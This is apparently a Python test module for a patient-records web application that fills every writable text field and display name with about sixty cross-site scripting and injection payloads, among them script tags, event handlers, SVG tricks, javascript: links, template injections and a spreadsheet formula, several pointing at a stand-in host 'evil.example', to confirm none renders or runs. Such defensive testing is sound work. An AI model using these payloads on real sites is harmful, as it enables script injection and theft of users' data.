"""Sixty things somebody might type to make a page do something, in every text of every kind, and in every name."""

import json
from copy import deepcopy
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import jsonschema_rs
from fastapi.testclient import TestClient

from app.access.models import Practice
from app.catalogue.kinds import ALL_KINDS
from app.identity.models import Account
from app.records.envelope import WHEN_FIELDS
from app.records.kind import RecordKind
from app.records.models import AuthorRole
from tests.browser.visit import PATIENT, THERAPIST, House, Somebody, mutation
from tests.contract.poison import Field, fields_of
from tests.records.examples import LEAST, REFERRED, everything

Json = dict[str, Any]

# An element that a text has made is told from the application's own by this; a script that has run, by the mark.
_MADE, _RAN = "data-payload=1", "window.__ran=1"
ELSEWHERE = "evil.example"
# The first in any list of names, and what the screens open.
FIRST_NAME = f"!<img {_MADE} src=x onerror={_RAN}>Anaïs"

_SCRIPTS = [
    f"<script {_MADE}>{_RAN}</script>",
    f"<ScRiPt {_MADE}>{_RAN}</sCrIpT >",
    f"<script {_MADE} src=//{ELSEWHERE}/x.js></script>",
    f"</script><script {_MADE}>{_RAN}</script>",
    f"</title><script {_MADE}>{_RAN}</script>",
    f"</textarea><script {_MADE}>{_RAN}</script>",
    f"--><script {_MADE}>{_RAN}</script><!--",
    f"]]><script {_MADE}>{_RAN}</script>",
    f"<scr<script>ipt {_MADE}>{_RAN}</scr</script>ipt>",
]
_HANDLERS = [
    f"<img {_MADE} src=x onerror={_RAN}>",
    f'<img {_MADE} src="https://{ELSEWHERE}/a.png">',
    f"<body {_MADE} onload={_RAN}>",
    f"<details {_MADE} open ontoggle={_RAN}>x",
    f"<input {_MADE} autofocus onfocus={_RAN}>",
    f"<video {_MADE}><source onerror={_RAN}></video>",
    f"<audio {_MADE} src=x onerror={_RAN}>",
    f"<marquee {_MADE} onstart={_RAN}>x</marquee>",
    f"<div {_MADE} onpointerover={_RAN}>large</div>",
    f"<iframe {_MADE} srcdoc='<script>parent.__ran=1</script>'></iframe>",
    f"<object {_MADE} data=javascript:{_RAN}></object>",
    f"<embed {_MADE} src=//{ELSEWHERE}>",
    f"<meta {_MADE} http-equiv=refresh content='0;url=//{ELSEWHERE}'>",
    f"<base {_MADE} href=//{ELSEWHERE}/>",
    f"<link {_MADE} rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<form {_MADE} action=//{ELSEWHERE}><button>ok</button></form>",
    f"<template {_MADE} shadowrootmode=open><script>{_RAN}</script></template>",
]
_DRAWINGS = [
    f"<svg {_MADE} onload={_RAN}>",
    f"<svg {_MADE}><script>{_RAN}</script></svg>",
    f"<svg {_MADE}><animate onbegin={_RAN} attributeName=x dur=1s>",
    f"<svg {_MADE}><use href='data:image/svg+xml,<svg/>#x'></svg>",
    f"<svg {_MADE}><foreignObject><img src=x onerror={_RAN}></foreignObject></svg>",
    f"<math {_MADE}><mtext><style><img src=x onerror={_RAN}></style></mtext></math>",
    f"<math {_MADE} href=javascript:{_RAN}>x</math>",
]
_ADDRESSES = [
    f"javascript:{_RAN}",
    f"<a {_MADE} href=javascript:{_RAN}>ici</a>",
    f'<a {_MADE} href="https://{ELSEWHERE}/">plotly</a>',
    f"[ici](javascript:{_RAN})",
    f"![image](https://{ELSEWHERE}/a.png)",
    f"data:text/html,<script {_MADE}>{_RAN}</script>",
    f"https://{ELSEWHERE}/?q=1",
]
_ATTRIBUTES = [
    f'" {_MADE} onpointerover="{_RAN}',
    f"' {_MADE} autofocus onfocus='{_RAN}",
    f'"><img {_MADE} src=x onerror={_RAN}>',
    f"` {_MADE} onclick=`{_RAN}",
    f"&lt;img {_MADE} src=x onerror={_RAN}&gt;",
    f"&#60;img {_MADE} src=x onerror={_RAN}&#62;",
    f"\\u003cimg {_MADE} src=x onerror={_RAN}\\u003e",
]
_TEMPLATES = [
    f"{{{{constructor.constructor('{_RAN}')()}}}}",
    f"${{{_RAN}}}",
    f"{{@html '<img {_MADE}>'}}",
    f"<%= {_RAN} %>",
    "%(name)s %s {0} {name}",
    '{"__proto__": {"x": 1}}',
]
_STYLES = [
    f"</style><style {_MADE}>body{{display:none}}</style>",
    f"<b {_MADE} style='position:fixed;inset:0;background:url(//{ELSEWHERE}/x)'>gras</b>",
    "<b>gras</b> <i>penché</i> <br> <sup>haut</sup> <sub>bas</sub>",
    "@import url(//evil.example/x.css);",
]
_SIGNS = [
    "\u202etxet sdrawkcab\u202c <b>",
    "\u2066isol\u00e9 \u2067sens\u2069",
    "z\u200be\u200cr\u200do\u2060 \ufeff",
    "null",
    "undefined",
    "[object Object]",
    "m" * 200,
    '=HYPERLINK("https://evil.example","ici")',
]
PAYLOADS = (
    *_SCRIPTS, *_HANDLERS, *_DRAWINGS, *_ADDRESSES, *_ATTRIBUTES, *_TEMPLATES, *_STYLES, *_SIGNS
)  # fmt: skip


def texts_of(kind: RecordKind, example: Json) -> list[Field]:
    """The places where anything may be typed. The name of a zone is checked against a list by the service alone."""
    return [
        field
        for field in fields_of(kind, example)
        if not field.schema.get("readOnly")
        and field.path != ("zone",)
        and jsonschema_rs.validator_for(field.schema, validate_formats=True).is_valid(PAYLOADS[0])
    ]


def type_everywhere(house: House) -> None:
    """By whoever may write each kind: as many notes of each as there are payloads, each payload in each text."""
    account = house.cast.known[PATIENT]
    with house.cast.browser(account) as phone, house.cast.browser(house.cast.known[THERAPIST]) as tablet:
        ids = {name: _pushed(phone, house.patient_id, [_note(name, LEAST[name], 3)])[0] for name in REFERRED}
        for kind in ALL_KINDS:
            writer = phone if AuthorRole.patient in kind.written_by else tablet
            _pushed(writer, house.patient_id, _typed(kind, everything(kind.name, ids)))
    person = Somebody(house, "", PATIENT, house.patient_id)
    person.writes_twice_at_once("flare", {"ongoing": False, "note": PAYLOADS[0]}, PAYLOADS[1])
    _name_everybody(house)


def _typed(kind: RecordKind, example: Json) -> list[Json]:
    # The days of the example are none of the days typed on.
    example = {name: value for name, value in example.items() if name not in WHEN_FIELDS | {"stopped_on"}}
    texts = texts_of(kind, example)
    return [_note(kind.name, _with(example, texts, number), number) for number in range(len(PAYLOADS))]


def _with(example: Json, texts: list[Field], number: int) -> Json:
    made = deepcopy(example)
    for place, field in enumerate(texts):
        inside: Any = made
        for step in field.path[:-1]:
            inside = inside[step]
        inside[field.path[-1]] = PAYLOADS[(number + place) % len(PAYLOADS)]
    return made


def _note(kind: str, fields: Json, days_ago: int) -> Json:
    return mutation(kind, (datetime.now(UTC) - timedelta(days=days_ago)).date(), fields)


def _pushed(client: TestClient, patient_id: UUID, mutations: list[Json]) -> list[str]:
    batch = {"patient": str(patient_id), "client_schema": 3, "mutations": mutations}
    answer = client.post("/v1/sync/push", json=batch)
    assert answer.status_code == 200, answer.text
    for one, verdict in zip(mutations, answer.json()["results"], strict=True):
        assert verdict["status"] == "applied", (one["kind"], json.dumps(one["fields"]), verdict)
    return [one["record_id"] for one in mutations]


def _name_everybody(house: House) -> None:
    """The person, others of the same list, the practice and the therapist; no screen renames the last two."""
    with house.cast.browser(house.cast.known[PATIENT]) as phone:
        renamed = phone.patch(f"/v1/patients/{house.patient_id}", json={"display_name": FIRST_NAME})
        assert renamed.is_success, renamed.text
    for payload in PAYLOADS:
        house.cast.person(house.practice, payload)
    with house.cast.database.write() as session:
        for row, name in ((Practice, "name"), (Account, "display_name")):
            known = house.practice.id if row is Practice else house.cast.known[THERAPIST].id
            found = session.get(row, known)
            setattr(found, name, f"<img {_MADE} src=x onerror={_RAN}> & {row.__name__}")
